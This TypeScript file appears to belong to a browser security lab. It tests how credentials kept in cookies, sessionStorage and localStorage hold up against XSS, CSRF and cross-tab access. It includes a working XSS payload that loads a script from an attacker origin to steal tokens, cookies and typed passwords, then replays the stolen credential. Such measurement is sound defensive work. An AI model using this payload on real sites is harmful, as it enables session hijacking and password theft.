// The places where the lab's page can keep a credential, the questions about each, and the code that answers them in a browser.
import type { BrowserContext } from 'playwright-core';
import type { Attacker } from './attacker.js';
import { addressOf, isLoggedIn, logIn, openPage, type Place, username } from './storage-page.js';

export type PlaceName = keyof typeof places;

/** Modes that any instance can check and that can log out for good, so that the observed effects come from the browser. */
export const places = {
  'HttpOnly cookie (session)': { mode: 'session-redis', place: 'cookie' },
  'HttpOnly cookie (token)': { mode: 'jwt-denylist', place: 'cookie' },
  sessionStorage: { mode: 'jwt-denylist', place: 'sessionStorage' },
  localStorage: { mode: 'jwt-denylist', place: 'localStorage' },
} as const satisfies Record<string, Place>;

export type Question = keyof typeof questions;
export type Observation = Readonly<Partial<Record<Question, boolean>>>;

export const questions = {
  isRead: 'A script injected into the page can read the credential',
  goesToOtherSite: 'It can send the credential to another site',
  goesToOtherPort: 'It can send the credential to another port of the same host',
  worksElsewhere: 'The stolen credential works there after the page is closed',
  isUsed: 'It can act as the user while the page is open',
  isPasswordRead: 'It can read a password as the user types it',
  otherSiteActs: 'A page on another site can log the user out (CSRF)',
  otherPortActs: 'A page on another port of the same host can',
  otherSiteActsUnprotected: 'A page on another site could if there were no protection',
  otherSiteLinks: 'A link on another site arrives logged in',
  secondTab: 'A second tab is logged in',
  openedTab: 'A tab that the page itself opens is logged in',
  otherName: 'The page under the other name of the machine is logged in',
  otherPort: 'The browser sends it to the API at another port of the same host',
  afterReload: 'The log-in outlives a reload',
  afterTab: 'The log-in outlives the tab',
  afterBrowser: 'The log-in outlives the browser',
} as const;

/** The abilities of an injected script on the lab's page while a user is logged in. */
export async function observeInjection(
  browser: BrowserContext,
  lab: string,
  attacker: Attacker,
  place: Place,
): Promise<Observation> {
  const page = await openPage(browser, lab, place);
  const { body } = await logIn(page);
  const token = body.access_token;
  const credential = token ?? (await browser.cookies(lab)).find(({ httpOnly }) => httpOnly)?.value;
  if (!credential) throw new Error('The log-in gave no credential');

  // The page's vulnerability: the text after #greeting= becomes part of it, as HTML.
  const markup = `<img src="" onerror="import('${attacker.otherSite}/injected.js')">`;
  await page.goto(`${addressOf(lab, place)}#greeting=${encodeURIComponent(markup)}`);
  const [toOtherSite, toOtherPort] = await attacker.collect(2);
  const { readable, me } = JSON.parse(toOtherSite?.body ?? '');
  await page.getByLabel('Password').fill('a new password');
  const [typed] = await attacker.collect(1);
  await page.close();

  const text = JSON.stringify(readable);
  const holdsIt = (...texts: (string | undefined)[]) => texts.some((each) => each?.includes(credential));
  const stolen = token ? { authorization: `Bearer ${token}` } : { cookie: toOtherPort?.cookie ?? '' };
  return {
    isRead: holdsIt(text),
    goesToOtherSite: holdsIt(text, toOtherSite?.cookie),
    goesToOtherPort: holdsIt(text, toOtherPort?.cookie),
    worksElsewhere: (await fetch(`${lab}/api/${place.mode}/me`, { headers: stolen })).ok,
    isUsed: me.username === username,
    isPasswordRead: JSON.parse(typed?.body ?? '').typed === 'a new password',
  };
}

/**
 * Where else a log-in is known: in other tabs, at other origins, and after a reload.
 * `lab` is the origin of the page, `otherPort` the one of the same host that has the API too.
 */
export async function observeTabs(
  browser: BrowserContext,
  { lab, otherPort: api }: { readonly lab: string; readonly otherPort: string },
  place: Place,
): Promise<Observation> {
  const page = await openPage(browser, lab, place);
  await logIn(page);

  const second = await openPage(browser, lab, place);
  const secondTab = await isLoggedIn(second);
  await second.goto(addressOf(lab.replace('127.0.0.1', 'localhost'), place));
  const otherName = await isLoggedIn(second);
  const otherPort = (await second.goto(`${api}/api/${place.mode}/me`))?.status() === 200;
  await second.close();

  const opening = browser.waitForEvent('page');
  await page.evaluate(`void open('${addressOf(lab, place)}')`);
  const opened = await opening;
  await opened.waitForLoadState();
  const openedTab = await isLoggedIn(opened);
  await opened.close();

  await page.reload();
  const afterReload = await isLoggedIn(page);
  await page.close();
  const afterTab = await isLoggedIn(await openPage(browser, lab, place));
  return { secondTab, otherName, otherPort, openedTab, afterReload, afterTab };
}
